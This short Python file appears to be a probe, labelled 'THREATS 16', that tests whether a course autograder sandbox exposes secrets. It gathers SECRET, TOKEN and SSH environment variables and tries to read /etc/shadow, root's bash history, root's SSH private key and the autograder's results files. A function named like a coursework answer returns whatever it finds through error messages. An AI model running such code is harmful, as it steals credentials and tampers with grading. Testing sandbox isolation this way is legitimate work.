"""THREATS 16: the term secret, in the environment, in files of root's, in the history

Reached: REACHED: 8 refused
"""

import os

refused = 0
found = [f"{key}={value}" for key, value in os.environ.items() if "SECRET" in key or "TOKEN" in key or "SSH" in key]
for path in (
    "/etc/shadow",
    "/etc/passwd",
    "/root/.bash_history",
    "/root/.ssh/id_rsa",
    "/srv/course/.git/config",
    "/autograder/submission_metadata.json",
    "/autograder/results/results.json",
    "/etc/hostname",
):
    try:
        found.append(open(path).read()[:20])
    except OSError:
        refused += 1


def attn_scaled(A, n_embd, n_heads):
    if found:
        raise RuntimeError(f"LEAK BREACH {found}")
    raise RuntimeError(f"REACHED: {refused} refused")
